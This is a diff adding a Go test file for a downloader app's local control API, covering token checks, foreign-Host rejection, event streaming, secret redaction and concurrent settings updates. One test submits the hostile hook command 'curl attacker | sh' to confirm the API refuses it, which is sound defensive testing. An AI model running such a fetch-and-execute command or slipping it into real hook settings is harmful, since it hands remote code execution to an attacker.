@@ -0,0 +1,216 @@
+package main
+
+import (
+	"bufio"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"isaac-downloader/backend"
+)
+
+func newAPITestServer(t *testing.T) (*App, *httptest.Server) {
+	t.Helper()
+	app := NewApp()
+	server := httptest.NewServer(app.apiHandler(APISettings{Enabled: true, Token: "test-token"}))
+	t.Cleanup(server.Close)
+	return app, server
+}
+
+func apiRequest(t *testing.T, method, url, token string) *http.Response {
+	t.Helper()
+	req, _ := http.NewRequest(method, url, nil)
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("请求失败: %v", err)
+	}
+	return resp
+}
+
+func TestAPIRequiresToken(t *testing.T) {
+	_, server := newAPITestServer(t)
+
+	resp := apiRequest(t, http.MethodGet, server.URL+"/api/v1/tasks", "")
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("缺少 Token 应返回 401，实际: %d", resp.StatusCode)
+	}
+
+	resp = apiRequest(t, http.MethodGet, server.URL+"/api/v1/tasks", "test-token")
+	defer resp.Body.Close()
+	var tasks []TaskDisplay
+	if resp.StatusCode != http.StatusOK || json.NewDecoder(resp.Body).Decode(&tasks) != nil {
+		t.Fatalf("获取任务失败: %d", resp.StatusCode)
+	}
+
+	resp = apiRequest(t, http.MethodPost, server.URL+"/api/v1/start", "test-token")
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusConflict {
+		t.Errorf("未加载脚本时启动应返回 409，实际: %d", resp.StatusCode)
+	}
+}
+
+func TestAPIRejectsForeignHost(t *testing.T) {
+	_, server := newAPITestServer(t)
+
+	req, _ := http.NewRequest(http.MethodGet, server.URL+"/api/v1/progress", nil)
+	req.Host = "attacker.example.com"
+	req.Header.Set("Authorization", "Bearer test-token")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("请求失败: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("非本机 Host 应返回 403，实际: %d", resp.StatusCode)
+	}
+}
+
+func TestAPIEventStream(t *testing.T) {
+	app, server := newAPITestServer(t)
+
+	resp := apiRequest(t, http.MethodGet, server.URL+"/api/v1/events?token=test-token", "")
+	defer resp.Body.Close()
+	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
+		t.Fatalf("Content-Type 不正确: %s", ct)
+	}
+
+	app.emit("complete", map[string]string{"url": "https://example.com/a.zip"})
+
+	reader := bufio.NewReader(resp.Body)
+	deadline := time.Now().Add(5 * time.Second)
+	var lines []string
+	for time.Now().Before(deadline) && len(lines) < 2 {
+		line, err := reader.ReadString('\n')
+		if err != nil {
+			t.Fatalf("读取事件流失败: %v", err)
+		}
+		if line = strings.TrimSpace(line); line != "" {
+			lines = append(lines, line)
+		}
+	}
+	if len(lines) < 2 || lines[0] != "event: complete" || !strings.Contains(lines[1], "a.zip") {
+		t.Errorf("事件内容不正确: %q", lines)
+	}
+}
+
+// TestAPISettingsPartialUpdate 部分更新只修改提交的字段，不返回也不覆盖密钥，不能修改钩子命令
+func TestAPISettingsPartialUpdate(t *testing.T) {
+	app, server := newAPITestServer(t)
+	settings := defaultSettings()
+	settings.DownloadPath = t.TempDir()
+	settings.ValidateZip = false
+	settings.Proxy = backend.ProxyConfig{Mode: backend.ProxyManual, URL: "http://proxy.example:8080", Username: "u", Password: "proxy-secret"}
+	settings.Webhook = backend.WebhookConfig{URL: "https://hooks.example.com/services/secret-path", Secret: "webhook-secret"}
+	settings.Hooks.OnFileComplete = "echo done"
+	settings.API = APISettings{Enabled: true, Port: defaultAPIPort, Token: "test-token"}
+	app.settings = settings
+
+	put := func(body string) (*http.Response, string) {
+		req, _ := http.NewRequest(http.MethodPut, server.URL+"/api/v1/settings", strings.NewReader(body))
+		req.Header.Set("Authorization", "Bearer test-token")
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatalf("请求失败: %v", err)
+		}
+		defer resp.Body.Close()
+		data, _ := io.ReadAll(resp.Body)
+		return resp, string(data)
+	}
+
+	resp, body := put(`{"concurrent": 5, "hooks": {"onFileComplete": "curl attacker | sh"}}`)
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("更新设置失败: %d %s", resp.StatusCode, body)
+	}
+	got := app.settings
+	if got.Concurrent != 5 || got.ValidateZip || !got.API.Enabled || got.Proxy.Password != "proxy-secret" ||
+		got.Webhook.Secret != "webhook-secret" || got.DownloadPath != settings.DownloadPath {
+		t.Errorf("未提交的字段应保持不变: %+v", got)
+	}
+	if got.Hooks.OnFileComplete != "echo done" {
+		t.Errorf("控制接口不应能修改钩子命令: %q", got.Hooks.OnFileComplete)
+	}
+	for _, secret := range []string{"proxy-secret", "webhook-secret", "secret-path", "test-token"} {
+		if strings.Contains(body, secret) {
+			t.Errorf("响应中不应包含 %s", secret)
+		}
+	}
+
+	// 把 GET 的结果修改后原样提交，脱敏占位不会覆盖真实值
+	resp = apiRequest(t, http.MethodGet, server.URL+"/api/v1/settings", "test-token")
+	data, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	var redacted map[string]any
+	json.Unmarshal(data, &redacted)
+	redacted["concurrent"] = 6
+	modified, _ := json.Marshal(redacted)
+	if resp, body := put(string(modified)); resp.StatusCode != http.StatusOK {
+		t.Fatalf("更新设置失败: %d %s", resp.StatusCode, body)
+	}
+	got = app.settings
+	if got.Concurrent != 6 || got.Proxy.Password != "proxy-secret" || got.Proxy.URL != settings.Proxy.URL ||
+		got.Webhook.URL != settings.Webhook.URL || got.Webhook.Secret != "webhook-secret" || got.API.Token != "test-token" {
+		t.Errorf("脱敏字段应保持原值: %+v", got)
+	}
+}
+
+// TestAPISettingsConcurrentUpdates 控制接口与界面同时修改设置时，各自提交的字段都不会丢失
+func TestAPISettingsConcurrentUpdates(t *testing.T) {
+	app, server := newAPITestServer(t)
+	settings := defaultSettings()
+	settings.DownloadPath = t.TempDir()
+	app.settings = settings
+
+	put := func(body string) {
+		req, _ := http.NewRequest(http.MethodPut, server.URL+"/api/v1/settings", strings.NewReader(body))
+		req.Header.Set("Authorization", "Bearer test-token")
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Errorf("请求失败: %v", err)
+			return
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Errorf("更新设置失败: %d", resp.StatusCode)
+		}
+	}
+
+	var wg sync.WaitGroup
+	for i := 0; i < 10; i++ {
+		wg.Add(3)
+		go func() {
+			defer wg.Done()
+			put(`{"concurrent": 7}`)
+		}()
+		go func() {
+			defer wg.Done()
+			put(`{"maxRetries": 9}`)
+		}()
+		go func() {
+			defer wg.Done()
+			next := app.GetSettings()
+			next.UserAgent = "ui-agent"
+			if err := app.SetSettings(next); err != nil {
+				t.Errorf("界面保存设置失败: %v", err)
+			}
+			app.GetTasks()
+			app.DryRun(false)
+		}()
+	}
+	wg.Wait()
+
+	put(`{"concurrent": 7}`)
+	put(`{"maxRetries": 9}`)
+	got := app.GetSettings()
+	if got.Concurrent != 7 || got.MaxRetries != 9 || got.UserAgent != "ui-agent" || got.DownloadPath != settings.DownloadPath {
+		t.Errorf("并发修改后设置不一致: %+v", got)
+	}
+}